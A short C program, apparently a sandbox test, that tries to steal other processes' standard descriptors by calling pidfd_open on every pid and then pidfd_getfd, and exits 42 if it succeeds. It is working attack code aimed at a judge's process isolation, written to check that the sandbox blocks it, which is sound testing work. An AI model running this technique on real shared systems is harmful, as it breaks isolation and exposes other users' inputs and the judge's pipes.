/* Attack: steal another process's file descriptors: pidfd_open() every pid
 * and pidfd_getfd() its descriptors 0-2 (another run's test input, the
 * judge's pipes), for up to 1 s so that runs of other tests overlap.
 * Success: a descriptor of a process that is neither this one nor its
 * child (nor a pid namespace's init parent) was copied: exit 42. */
#define _GNU_SOURCE
#include <stdio.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static long ms_since(struct timespec *s) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (t.tv_sec - s->tv_sec) * 1000 + (t.tv_nsec - s->tv_nsec) / 1000000;
}

int main(void) {
    pid_t self = getpid();
    long max = 32768;
    FILE *f = fopen("/proc/sys/kernel/pid_max", "r");
    if (f) { if (fscanf(f, "%ld", &max) != 1) max = 32768; fclose(f); }
    if (max > 4194304) max = 4194304;
    struct timespec start;
    clock_gettime(CLOCK_MONOTONIC, &start);
    do {
        for (long pid = 1; pid <= max; pid++) {
            if (pid == self) continue;
            if (pid == 1 && getppid() == 1) continue;
            int pfd = (int)syscall(SYS_pidfd_open, (pid_t)pid, 0);
            if (pfd < 0) continue;
            for (int fd = 0; fd < 3; fd++) {
                int got = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
                if (got >= 0) {
                    fprintf(stderr, "copied fd %d of pid %ld\n", fd, pid);
                    return 42;
                }
            }
            close(pfd);
        }
        usleep(20000);
    } while (ms_since(&start) < 1000);
    puts("-1");
    return 0;
}
